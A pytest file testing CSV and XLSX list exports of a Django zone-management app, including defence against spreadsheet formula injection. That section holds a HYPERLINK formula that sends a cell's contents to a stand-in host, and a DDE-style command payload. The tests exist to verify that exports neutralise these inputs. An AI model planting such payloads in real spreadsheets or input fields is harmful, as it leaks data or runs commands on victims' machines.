"""Lists as spreadsheets (issue 7, first part): the page's own filters, every row, CSV streamed
with a byte-order mark for Excel, XLSX with real numbers and dates, and nothing the person may
not see on the page."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from tests.test_planning_pages import FUTURE_CODE, NOTE, brute_force, plan  # noqa: F401 - plan: a fixture
from zonedesk.ecosystem import services as ecosystem
from zonedesk.ecosystem.models import Indicator
from zonedesk.roadmaps import services as roadmaps
from zonedesk.roadmaps.models import OwnerKind, RoadmapKind

pytestmark = pytest.mark.django_db


def _csv(response) -> list[list[str]]:
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Vietnamese letters
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx(response) -> list[tuple]:
    assert "attachment" in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return list(book.active.iter_rows(values_only=True))


def test_the_project_list_exports_what_its_filters_show(client, zone, other_zone, make_project):
    for i in range(3):
        make_project(zone=zone, name_vi=f"Dự án phần mềm {i}", capital=10_000_000_000 + i)
    make_project(zone=other_zone, name_vi="Dự án khác khu")
    rows = _csv(client.get(f"/projects/?zone={zone.code}&export=csv"))
    assert rows[0][:3] == ["Mã số dự án", "Dự án", "Doanh nghiệp"]  # the page's language: Vietnamese first
    assert sorted(r[1] for r in rows[1:]) == ["Dự án phần mềm 0", "Dự án phần mềm 1", "Dự án phần mềm 2"]
    assert {r[7] for r in rows[1:]} == {"10000000000", "10000000001", "10000000002"}  # whole đồng
    sheet = _xlsx(client.get(f"/projects/?zone={zone.code}&export=xlsx"))
    assert len(sheet) == 4 and sheet[1][7] in {10_000_000_000, 10_000_000_001, 10_000_000_002}
    assert isinstance(sheet[1][8], dt.datetime)  # a date stays a date
    everything = _csv(client.get("/projects/?export=csv"))
    assert len(everything) == 5  # every row, not the page's 25


def test_the_late_list_exports_only_what_the_person_may_see(client, zone, board_user):
    today = dt.date.today()
    public = roadmaps.roadmap_create(
        by=board_user, zone=zone, kind=RoadmapKind.TASK, title_vi="Công khai", owner_kind=OwnerKind.BOARD
    )
    hidden = roadmaps.roadmap_create(
        by=board_user, zone=zone, kind=RoadmapKind.TASK, title_vi="Nội bộ", owner_kind=OwnerKind.BOARD, public=False
    )
    for roadmap, title in ((public, "Việc trễ công khai"), (hidden, "Việc trễ nội bộ")):
        roadmaps.milestone_add(
            by=board_user,
            roadmap=roadmap,
            title=title,
            responsible_name="Ban",
            planned_start=today - dt.timedelta(days=40),
            planned_end=today - dt.timedelta(days=3),
        )
    rows = _csv(client.get("/roadmaps/attention/?export=csv"))
    assert [r[0] for r in rows[1:]] == ["Việc trễ công khai"]
    assert rows[1][-1] == "3"  # days late
    client.force_login(board_user)
    assert len(_xlsx(client.get("/roadmaps/attention/?export=xlsx"))) == 3


def test_the_scorecard_exports_each_indicator_with_its_source(client, zone, board_user):
    t2 = Indicator.objects.get(code="T2")
    ecosystem.target_set(by=board_user, indicator=t2, zone=zone, year=2025, value=60)
    ecosystem.measurement_record(by=board_user, indicator=t2, zone=zone, year=2025, value=80, source="Khảo sát")
    rows = _csv(client.get(f"/ecosystem/?zone={zone.code}&year=2025&export=csv"))
    assert len(rows) == 1 + Indicator.objects.count()
    t2_row = next(r for r in rows if r[2] == "T2")
    assert t2_row[6:10] == ["80.00", "60.00", "75.0", "Khảo sát"]
    assert t2_row[5] == "có"  # lower is better: yes, in Vietnamese


def test_an_agency_exports_only_its_own_queue(
    client, zone, enterprise_user, board_user, agency, agency_user, other_agency
):
    from tests.test_list_pages import _petition, _route

    mine = _petition(zone, enterprise_user, title="Hoàn thuế chậm")
    theirs = _petition(zone, enterprise_user, title="Mất điện")
    _route(mine, board_user, agency)
    _route(theirs, board_user, other_agency)
    assert client.get("/petitions/?export=csv").status_code == 302  # the public is sent to log in
    client.force_login(agency_user)
    rows = _csv(client.get("/petitions/?export=csv"))
    assert [r[0] for r in rows[1:]] == [mine.reference]
    assert rows[1][2] == enterprise_user.enterprise.name and rows[1][-1] == "không"  # not overdue
    client.force_login(board_user)
    assert {r[0] for r in _xlsx(client.get("/petitions/?export=xlsx"))[1:]} == {mine.reference, theirs.reference}


# --- the parcels, a roadmap's milestones, the actors (issue 7: every list exports) ----------------


def test_the_vacant_land_finder_exports_every_match_with_public_fields_only(client, plan):  # noqa: F811
    rows = _csv(client.get("/planning/", {"zone": "HHTP", "find": "1", "min_ha": "2", "export": "csv"}))
    assert rows[0][:4] == ["Lô đất", "Khu", "Mã loại đất", "Loại đất"]
    assert [r[0] for r in rows[1:]] == brute_force("2") == ["CN-01", "PM-01", "CN-02"]
    text = str(rows)
    assert FUTURE_CODE not in text and NOTE not in text and "CN-04" not in text  # leased, private, tomorrow
    sheet = _xlsx(client.get("/planning/", {"zone": "HHTP", "find": "1", "export": "xlsx"}))
    assert [r[0] for r in sheet[1:]] == brute_force()
    assert isinstance(sheet[1][4], float) and abs(sheet[1][4] - 40_000) < 50  # square metres (geodesic), a number


def test_a_roadmaps_milestones_export_only_for_who_may_see_it(client, zone, board_user):
    hidden = roadmaps.roadmap_create(
        by=board_user, zone=zone, kind=RoadmapKind.TASK, title_vi="Nội bộ", owner_kind=OwnerKind.BOARD, public=False
    )
    today = dt.date.today()
    for title in ("Khảo sát", "Thiết kế"):
        roadmaps.milestone_add(
            by=board_user,
            roadmap=hidden,
            title=title,
            responsible_name="Ban Quản lý",
            planned_start=today - dt.timedelta(days=10),
            planned_end=today + dt.timedelta(days=10),
        )
    assert client.get(f"/roadmaps/{hidden.pk}/?export=csv").status_code == 404
    client.force_login(board_user)
    rows = _csv(client.get(f"/roadmaps/{hidden.pk}/?export=csv"))
    assert [r[0] for r in rows[1:]] == ["Khảo sát", "Thiết kế"] and rows[0][0] == "Mốc"
    sheet = _xlsx(client.get(f"/roadmaps/{hidden.pk}/?export=xlsx"))
    assert sheet[1][2] == dt.datetime.combine(today - dt.timedelta(days=10), dt.time())


def test_the_actors_registry_exports_with_its_filter(client, zone, other_zone, board_user):
    for z, name, kind in (
        (zone, "Đại học Minh họa", "university"),
        (zone, "Quỹ Minh họa", "fund"),
        (other_zone, "Viện khác", "institute"),
    ):
        ecosystem.actor_create(
            by=board_user, zone=z, kind=kind, name_vi=name, fund_kind="venture" if kind == "fund" else ""
        )
    rows = _csv(client.get(f"/ecosystem/actors/?zone={zone.code}&export=csv"))
    assert sorted(r[1] for r in rows[1:]) == ["Quỹ Minh họa", "Đại học Minh họa"]
    rows = _csv(client.get(f"/ecosystem/actors/?zone={zone.code}&kind=fund&export=csv"))
    assert [r[1] for r in rows[1:]] == ["Quỹ Minh họa"]


# --- formula injection (issue 21, item 1) ----------------------------------------------------------

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A2,"Open")'


def _sheet_xml(response) -> str:
    import zipfile

    book = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    return book.read("xl/worksheets/sheet1.xml").decode()


def test_text_that_looks_like_a_formula_is_shown_never_run(client, zone, board_user, make_project):
    """A visitor's petition titled as a formula: the board's XLSX of the queue holds it as text (no
    formula element, Excel's quote prefix so it stays text when edited), the CSV with a leading
    apostrophe; numbers, a negative one included, stay numbers; the same in an open dataset."""
    filed = client.post(
        "/api/v1/petitions",
        data={
            "zone": zone.code,
            "title": HOSTILE_TITLE,
            "body": "Nội dung bình thường.",
            "category": "construction",
            "petitioner_name": "@SUM(1+1)*cmd|' /C calc'!A0",
            "petitioner_email": "a@example.vn",
            "consent_version": 1,
        },
        content_type="application/json",
    )
    assert filed.status_code == 201, filed.content
    client.force_login(board_user)
    xml = _sheet_xml(client.get("/petitions/?export=xlsx"))
    assert "<f>" not in xml  # no formula anywhere in the sheet
    book = openpyxl.load_workbook(io.BytesIO(b"".join(client.get("/petitions/?export=xlsx").streaming_content)))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == HOSTILE_TITLE]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)  # shown exactly as typed
    rows = _csv(client.get("/petitions/?export=csv"))
    assert "'" + HOSTILE_TITLE in rows[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    make_project(zone=zone, name_vi="+84 Dự án", capital=12_000_000_000)
    rows = _csv(client.get("/open-data/projects.csv"))
    assert [cell for row in rows[1:] for cell in row if "Dự án" in cell] == ["'+84 Dự án"]
    assert any(cell == "12000000000" for row in rows for cell in row)  # a number is not quoted


def test_a_negative_number_stays_a_number():
    from zonedesk.core.exports import Column, _csv_lines, _xlsx

    columns = [Column("n", lambda r: r[0]), Column("t", lambda r: r[1])]
    lines = list(_csv_lines(columns, [(-5, "-5"), (Decimal("-1.5"), "@x")]))
    assert lines[1] == "-5,'-5\r\n" and lines[2] == "-1.5,'@x\r\n"
    book = openpyxl.load_workbook(_xlsx(columns, [(-5, "-5")], "t"))
    assert [c.value for c in book.active[2]] == [-5, "-5"] and book.active["A2"].data_type == "n"


def test_an_exported_registry_with_formula_like_names_imports_unchanged(
    client, tmp_path, zone, board_user, make_project
):
    """The round trip of the spreadsheet imports survives the neutralising apostrophe."""
    from zonedesk.sheets import services as sheets

    make_project(zone=zone, name_vi="=Dự án công thức")
    client.force_login(board_user)
    for fmt in ("csv", "xlsx"):
        data = b"".join(client.get(f"/imports/export/projects.{fmt}").streaming_content)
        if fmt == "csv":
            assert "'=Dự án công thức" in data.decode("utf-8-sig")
        path = tmp_path / f"projects.{fmt}"
        path.write_bytes(data)
        check = sheets.import_file("projects", path, by=board_user)
        assert check.rows == 1 and check.unchanged == 1 and not check.new, check.problems


def test_a_spreadsheet_with_more_rows_than_it_can_hold_ends_with_a_note(monkeypatch):
    """Excel and LibreOffice stop at 1,048,576 rows: past them an export says so in its last row
    (here the limit is lowered, the rule the same) instead of a file no program opens whole."""
    from django.utils import translation

    from zonedesk.core import exports

    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
    columns = [exports.Column("N", lambda r: r)]
    with translation.override("vi"):
        book = openpyxl.load_workbook(exports._xlsx(columns, range(10), "t"))
    rows = [r[0] for r in book.active.iter_rows(values_only=True)]
    assert rows[:4] == ["N", 0, 1, 2] and len(rows) == 5
    assert "CSV" in rows[4] and "Bảng tính" in rows[4]
    whole = openpyxl.load_workbook(exports._xlsx(columns, range(3), "t"))
    assert [r[0] for r in whole.active.iter_rows(values_only=True)] == ["N", 0, 1, 2]  # at the limit: no note
